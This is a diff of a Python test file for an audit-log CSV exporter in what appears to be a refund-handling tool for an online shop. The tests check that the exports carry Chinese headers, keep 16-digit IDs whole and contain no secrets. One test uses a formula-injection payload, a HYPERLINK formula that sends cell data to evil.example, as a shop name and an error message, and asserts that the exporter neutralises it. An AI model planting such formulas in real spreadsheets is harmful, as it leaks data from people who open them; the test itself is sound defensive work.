@@ -405,13 +405,33 @@ def test_audit_log_lists_every_action_and_exports_csv_with_bom(store, shop, tmp_
     assert raw.startswith(b"\xef\xbb\xbf")
     with out.open(encoding="utf-8-sig", newline="") as fh:
         table = list(csv.reader(fh))
-    assert len(table) == 3 and table[1][3] == '="2"' and "order operation reject" in table[1][9]
-    assert "token" not in raw.decode("utf-8-sig").lower()
+    assert len(table) == 3 and table[1][3] == '="2"' and "order operation reject" in table[1][7]
+    assert table[0] == ["时间", "最后变化", "店铺", "售后单", "操作", "内容", "结果", "说明"]
+    assert table[2][4:7] == ["同意退款", "退款 ¥10.01", "已完成"]  # no method names, raw JSON or states
+    text = raw.decode("utf-8-sig")
+    assert "token" not in text.lower() and "open.seller" not in text and "refundAmount" not in text
 
 
-def test_action_log_csv_never_runs_a_platform_text_as_a_formula_and_keeps_long_ids(store, shop, tmp_path):
+def test_audit_log_ids_stay_whole_and_reject_details_read_as_words(store, shop, tmp_path):
+    big = 2_100_000_012_345_678
+    platform = FakePlatform(store, [R(big)])
+    platform.reasons[big] = [{"code": 3, "desc": "已签收", "requiredRejectDesc": False}]
+    engine = engine_for(platform, store, shop)
+    summary = engine.reject_reasons([big])
+    engine.execute(engine.prepare([big], Reject(reason_code=3, desc="商品已签收"), reasons=summary.per_refund))
+    (row,) = audit_rows(store)
+    out = tmp_path / "audit.csv"
+    export_csv([row], out)
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        table = list(csv.reader(fh))
+    assert table[1][3] == f'="{big}"'  # Excel keeps all 16 digits
+    assert table[1][4] == "拒绝" and table[1][5] == "原因编号 3；说明：商品已签收"
+
+
+def test_action_log_csv_never_runs_a_platform_text_as_a_formula_and_keeps_long_ids(store, tmp_path):
     long_id = 2_100_000_012_345_678  # 16 digits: Excel would round it as a number
     hostile = '=HYPERLINK("https://evil.example/?x="&A1,"点此查看")'
+    shop = store.add_shop(base_url="http://127.0.0.1:1", seller_id=2, name=hostile)  # the platform's
     platform = FakePlatform(store, [R(long_id)])
     platform.script[long_id] = [BusinessRejected(hostile, result=21)]
     engine = engine_for(platform, store, shop)
@@ -421,9 +441,8 @@ def test_action_log_csv_never_runs_a_platform_text_as_a_formula_and_keeps_long_i
     with out.open(encoding="utf-8-sig", newline="") as fh:
         header, row = list(csv.reader(fh))
     assert row[3] == f'="{long_id}"'
-    message, error = row[9], row[10]
-    assert hostile in message and not message.startswith(("=", "+", "-", "@"))
-    assert error == "'" + hostile  # the text kept whole, shown as text
+    assert row[2] == "'" + hostile  # the shop's name kept whole, shown as text
+    assert hostile in row[7]  # the platform's refusal, within the message
     for cell in row:  # no cell of the file may start a formula
         assert not cell.startswith(("+", "-", "@", "\t", "\r")), cell
         assert not cell.startswith("=") or cell == f'="{long_id}"', cell
